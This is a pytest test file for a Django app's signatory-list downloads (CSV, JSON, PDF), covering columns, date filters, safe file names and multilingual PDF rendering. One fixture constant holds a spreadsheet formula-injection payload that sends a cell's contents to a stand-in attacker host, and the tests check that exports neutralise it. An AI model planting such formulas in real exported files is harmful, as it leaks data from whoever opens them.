"""Downloads: a letter's signatory list as CSV and JSON, and its PDF."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from cosignatory.web.public import pdf
from cosignatory.web.public.downloads import CSV_COLUMNS, filename, neutralise
from cosignatory.web.register import models as m
from cosignatory.web.register import queries
from cosignatory.web.register import services as s
from cosignatory.web.register.demo import load_demo

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def demo(log: Any) -> None:
    load_demo()
    s.register_party("org-evil", "organisation", {"en": EVIL, "fr": "+33 Réseau", "ar": "@شبكة"})
    s.record_attested(
        "demo-open-letter",
        "org-evil",
        "sign",
        {"kind": "letter", "reference": "-1", "date": "2019-08-02"},
    )


def read_csv(response: Any) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:], newline="")))


def test_csv_has_a_header_and_one_row_per_party(client: Client, demo: None) -> None:
    response = client.get("/letters/demo-heritage/signatories.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="demo-heritage-signatories.csv"'
    )
    assert response.streaming
    rows = read_csv(response)
    assert tuple(rows[0]) == CSV_COLUMNS
    by_party = {r["party"]: r for r in rows}
    assert len(rows) == 17
    assert by_party["FRA"]["evidence"] == "self-signed"
    assert by_party["FRA"]["name_fr"] == "France"
    assert by_party["ITA"]["action"] == "accede"
    assert by_party["ITA"]["name_zh"] == "意大利"
    assert by_party["PRT"]["withdrawn_at"].startswith("2019-")
    assert by_party["PRT"]["active"] == "false"
    assert by_party["ESP"]["evidence_detail"].startswith("note-verbale DEMO/NV/")


def test_csv_cells_never_run_as_formulas(client: Client, demo: None) -> None:
    rows = read_csv(client.get("/letters/demo-open-letter/signatories.csv"))
    [evil] = [r for r in rows if r["party"] == "org-evil"]
    assert evil["party_name"] == "'" + EVIL
    assert evil["name_fr"] == "'+33 Réseau"
    assert evil["name_ar"] == "'@شبكة"
    assert evil["evidence_detail"] == "letter -1, 2019-08-02"  # not at the start: unchanged
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert neutralise("\tx") == "'\tx"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("a=1") == "a=1"


def test_as_of_a_date(client: Client, demo: None) -> None:
    italy = m.Signature.objects.get(letter_id="demo-heritage", party_id="ITA")
    day = (italy.at - timedelta(days=1)).date()
    before = read_csv(client.get(f"/letters/demo-heritage/signatories.csv?as_of={day}"))
    parties = {r["party"] for r in before}
    assert "ITA" not in parties and "PRT" in parties
    [portugal] = [r for r in before if r["party"] == "PRT"]
    assert portugal["withdrawn_at"] == "" and portugal["active"] == "true"
    response = client.get(f"/letters/demo-heritage/signatories.json?as_of={day}")
    assert response["Content-Disposition"] == (
        f'attachment; filename="demo-heritage-as-of-{day}-signatories.json"'
    )
    body = response.json()
    assert body["as_of"] == f"{day}T23:59:59.999999Z"
    assert body["count"] == len(before) == len(queries.signatory_list("demo-heritage", day))
    assert [r["party"] for r in body["items"]] == [r["party"] for r in before]


@pytest.mark.parametrize("as_of", ["2019-13-01", "yesterday", "2019-7-1", "2019-02-30"])
def test_a_bad_date_is_refused_with_a_message(client: Client, demo: None, as_of: str) -> None:
    for suffix in ("csv", "json"):
        response = client.get(f"/letters/demo-heritage/signatories.{suffix}", {"as_of": as_of})
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/plain")
        assert "date" in response.content.decode()


def test_json_has_the_apis_shape(client: Client, demo: None) -> None:
    mine = client.get("/letters/demo-heritage/signatories.json")
    assert mine.status_code == 200
    assert mine["Content-Type"] == "application/json"
    api = client.get("/api/v1/letters/demo-heritage/signatories?limit=100").json()
    body = json.loads(mine.content)
    assert set(body) == set(api)
    assert body["items"] == api["items"]
    assert (body["count"], body["active"]) == (api["count"], api["active"])


def test_unknown_and_draft_letters_are_not_found(client: Client, demo: None) -> None:
    for letter in ("no-such-letter", "demo-draft"):
        for suffix in ("signatories.csv", "signatories.json", "document.pdf"):
            assert client.get(f"/letters/{letter}/{suffix}").status_code == 404


def test_file_names_are_safe() -> None:
    assert filename('a"b;c\r\n/..', "x.csv") == "a_b_c___..-x.csv"
    assert filename("..hidden", "x.csv") == "hidden-x.csv"


# -- the PDF ------------------------------------------------------------------------------


def pdf_text(data: bytes, tmp_path: Path) -> str | None:
    """The PDF's text by poppler's pdftotext, if installed (None otherwise)."""
    tool = shutil.which("pdftotext")
    if tool is None:
        return None
    path = tmp_path / "document.pdf"
    path.write_bytes(data)
    return subprocess.run(
        [tool, "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout


def test_the_pdf_lists_the_signatories_in_an_annex(
    client: Client, demo: None, tmp_path: Path
) -> None:
    response = client.get("/letters/demo-heritage/document.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'inline; filename="demo-heritage-en.pdf"'
    data = response.content
    assert data.startswith(b"%PDF-")
    row = m.Letter.objects.get(pk="demo-heritage")
    html = pdf.document_html(row, "en")
    assert '<span class="symbol" dir="ltr">DEMO/C/7/G/1</span>' in html
    assert "<strong>call on</strong>" in html  # the Markdown, rendered
    assert "<del>Portugal</del>" in html and "Withdrawn" in html
    assert "Acceded" in html and "attested by the registrar" in html
    from weasyprint import HTML

    assert len(HTML(string=html).render().pages) == 2  # the letter, then the annex
    text = pdf_text(data, tmp_path)
    if text is not None:
        for words in (
            "DEMO/C/7/G/1",
            "Distr.: General",
            "Original: English",
            "Annex",
            "Demonstration Council",
            "protect cultural heritage",
            "Italy",
            "Portugal",
            "Withdrawn",
            "self-signed",
            "DEMO/NV/200",
        ):
            assert words in text, words


def test_the_pdf_in_arabic_runs_right_to_left(client: Client, demo: None, tmp_path: Path) -> None:
    s.create_letter(
        "ar-letter", {"ar": "رسالة مشتركة", "zh": "联名信"}, ["الرئيس"], "FRA", date(2019, 9, 10)
    )
    s.add_text_version("ar-letter", {"ar": "نحن **ندعو** الأطراف.", "zh": "我们**呼吁**各方。"})
    s.open_letter("ar-letter")
    s.record_attested(
        "ar-letter",
        "ITA",
        "sign",
        {"kind": "note-verbale", "reference": "N/1", "date": "2019-09-11"},
    )
    response = client.get("/letters/ar-letter/document.pdf", {"text": "ar"})
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    html = pdf.document_html(m.Letter.objects.get(pk="ar-letter"), "ar")
    assert '<html lang="ar" dir="rtl">' in html
    assert '"Noto Naskh Arabic"' in html and "إيطاليا" in html and "<strong>ندعو</strong>" in html
    html = pdf.document_html(m.Letter.objects.get(pk="ar-letter"), "zh")
    assert '"Noto Sans CJK SC"' in html and "意大利" in html
    text = pdf_text(client.get("/letters/ar-letter/document.pdf?text=zh").content, tmp_path)
    if text is not None:
        assert "联名信" in text and "意大利" in text
    # Without ?text, the reader's language if the letter has it, else the first.
    assert client.get("/letters/ar-letter/document.pdf")["Content-Disposition"].endswith('-ar.pdf"')


def test_the_pdf_refuses_a_language_the_letter_lacks(client: Client, demo: None) -> None:
    response = client.get("/letters/demo-heritage/document.pdf", {"text": "ru"})
    assert response.status_code == 400
    assert "not available in that language" in response.content.decode()
    response = client.get("/letters/demo-heritage/document.pdf", {"as_of": "2019-99-01"})
    assert response.status_code == 400
